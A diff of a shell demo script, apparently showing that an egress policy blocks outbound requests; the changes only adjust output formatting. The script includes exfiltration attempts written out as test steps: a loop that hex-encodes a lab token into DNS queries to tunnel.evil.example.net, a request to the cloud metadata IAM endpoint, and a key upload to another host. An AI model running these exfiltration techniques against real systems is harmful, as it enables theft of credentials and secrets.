@@ -29,12 +29,13 @@ printf 'POST https://api.example.com/v1/chat\nauthorized: %s\n' "$authorized" | 
 step 'Another path of the same host: not in the policy.'
 code=$(curl -sS -m 10 -o "$DEMO_OUT/denied.json" -w '%{http_code}' https://api.example.com/admin)
 keep path "$code"
-{ echo "GET https://api.example.com/admin -> $code"; cat "$DEMO_OUT/denied.json"; echo; } | cut -c1-300 | show
+{ echo "GET https://api.example.com/admin -> $code"; cut -c1-400 "$DEMO_OUT/denied.json" | sed 's/","/",\
+ "/g'; } | show
 [ "$code" = 403 ] && no 'refused, and the answer says why'
 
 step 'A host that is not in the policy.'
 dig +noall +comments +tries=1 +time=3 evil.example.net >"$DEMO_OUT/dig" 2>&1
-grep -E 'status:|EDE' "$DEMO_OUT/dig" | sed 's/^;; //; s/^; //; s/, id.*//' | show
+grep -E 'status:|EDE' "$DEMO_OUT/dig" | sed 's/^;; //; s/^; //; s/.*status: /status: /; s/, id.*//' | fold -s -w 74 | show
 curl -sS -m 10 -o /dev/null https://evil.example.net/ 2>"$DEMO_OUT/evil"
 keep evil_status "$?"
 no 'its name is not even looked up'
@@ -45,7 +46,7 @@ curl -sS -m 10 http://169.254.169.254/latest/meta-data/iam/ >"$DEMO_OUT/metadata
 keep metadata_status "$?"
 ms=$((($(date +%s%N) - t0) / 1000000))
 keep metadata_ms "$ms"
-{ cut -c1-90 "$DEMO_OUT/metadata"; echo "after $ms ms"; } | show
+{ cut -c1-74 "$DEMO_OUT/metadata"; echo "after $ms ms"; } | show
 no 'refused at once, not left hanging'
 
 step 'I send my key to another host that I may talk to.'
@@ -56,7 +57,7 @@ echo "POST https://files.example.com/upload -> $code" | show
 no 'a key in the wrong place: blocked, and on the record'
 
 step 'I hide it in DNS labels instead.'
-printf %s "$LAB_TOKEN" | od -An -tx1 | tr -d ' \n' | fold -w 40 | while read -r part || [ -n "$part" ]; do
+printf %s "$LAB_TOKEN" | od -An -tx1 | tr -d ' \n' | fold -w 32 | while read -r part || [ -n "$part" ]; do
 	dig +noall +comments +tries=1 +time=3 "$part.tunnel.evil.example.net" TXT 2>&1 |
 		sed -n "s/.*status: \([A-Z]*\).*/$part.tunnel.evil.example.net -> \1/p"
 done >"$DEMO_OUT/tunnel"
